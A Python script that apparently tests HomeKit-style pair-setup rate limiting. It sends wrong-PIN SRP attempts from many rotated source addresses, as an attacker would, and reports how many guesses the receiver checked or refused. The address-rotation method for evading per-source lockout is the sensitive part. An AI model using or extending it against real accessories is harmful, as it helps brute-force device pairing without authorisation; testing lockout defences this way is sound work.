#!/usr/bin/env python3
"""A PIN guesser, as an attacker on the box's network would run one: HAP pair-setup M1 then an M3
with a made-up SRP public key and proof (a wrong PIN, to the receiver), each guess on a new
connection from one of many source addresses. Standard library only.

usage: pin_guesser.py HOST PORT SOURCES PER_SOURCE [SECONDS]
  SOURCES: comma-separated source addresses, or PREFIX+COUNT (e.g. fd00:64::+200 makes
  fd00:64::1 … fd00:64::c8); each source guesses until refused or PER_SOURCE guesses; the run
  stops after SECONDS (default 60).
prints JSON: {"checked": guesses the receiver checked (M4 authentication error),
  "refused": answers with the Backoff error (or MaxTries), "retry_delays": [...], "busy": Busy answers,
  "other": other answers, "sources": N, "seconds": elapsed, "by_source": {source: checked}}
"""
import ipaddress
import json
import os
import socket
import sys
import time


def tlv(*items):
    out = b""
    for kind, value in items:
        for start in range(0, max(len(value), 1), 255):
            chunk = value[start:start + 255]
            out += bytes([kind, len(chunk)]) + chunk
    return out


def parse_tlv(data):
    items, index = {}, 0
    while index + 2 <= len(data):
        kind, length = data[index], data[index + 1]
        items[kind] = items.get(kind, b"") + data[index + 2:index + 2 + length]
        index += 2 + length
    return items


def post(sock, host, body):
    head = (f"POST /pair-setup HTTP/1.1\r\nHost: {host}\r\nX-Apple-HKP: 3\r\nContent-Type: application/octet-stream\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    sock.sendall(head + body)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    head, rest = data.split(b"\r\n\r\n", 1)
    status = int(head.split(b" ")[1])
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(rest) < length:
        rest += sock.recv(65536)
    return status, parse_tlv(rest[:length])


def sources(spec):
    if "+" in spec:
        prefix, count = spec.rsplit("+", 1)
        base = ipaddress.ip_address(prefix)
        return [str(base + n) for n in range(1, int(count) + 1)]
    return spec.split(",")


def guess(host, port, source):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.bind((source, 0))
        sock.connect((host, port))
        status, m2 = post(sock, host, tlv((0, b"\x00"), (6, b"\x01")))
        if 7 in m2:
            if m2[7][0] in (3, 5):
                return "refused", int.from_bytes(m2.get(8, b""), "little") if 8 in m2 else None
            return ("busy" if m2[7][0] == 7 else f"other M2 error {m2[7][0]}"), None
        status, m4 = post(sock, host, tlv((6, b"\x03"), (3, os.urandom(384)), (4, os.urandom(64))))
        error = m4.get(7, b"\x00")[0] if 7 in m4 else None
        if error == 2:
            return "checked", None
        if error in (3, 5):
            return "refused", int.from_bytes(m4.get(8, b""), "little") if 8 in m4 else None
        return f"other {status} {error}", None


def main():
    host, port, spec, per_source = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    limit = float(sys.argv[5]) if len(sys.argv) > 5 else 60
    result = {"checked": 0, "refused": 0, "busy": 0, "retry_delays": [], "other": [], "by_source": {}}
    started = time.monotonic()
    everyone = sources(spec)
    for source in everyone:
        for _ in range(per_source):
            if time.monotonic() - started > limit:
                break
            try:
                outcome, delay = guess(host, port, source)
            except OSError as error:
                outcome, delay = f"other {type(error).__name__}", None
            if outcome == "checked":
                result["checked"] += 1
                result["by_source"][source] = result["by_source"].get(source, 0) + 1
            elif outcome == "refused":
                result["refused"] += 1
                if delay is not None and len(result["retry_delays"]) < 20:
                    result["retry_delays"].append(delay)
                break
            elif outcome == "busy":
                result["busy"] += 1
                break
            else:
                result["other"].append(outcome)
                break
    result["sources"] = len(everyone)
    result["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
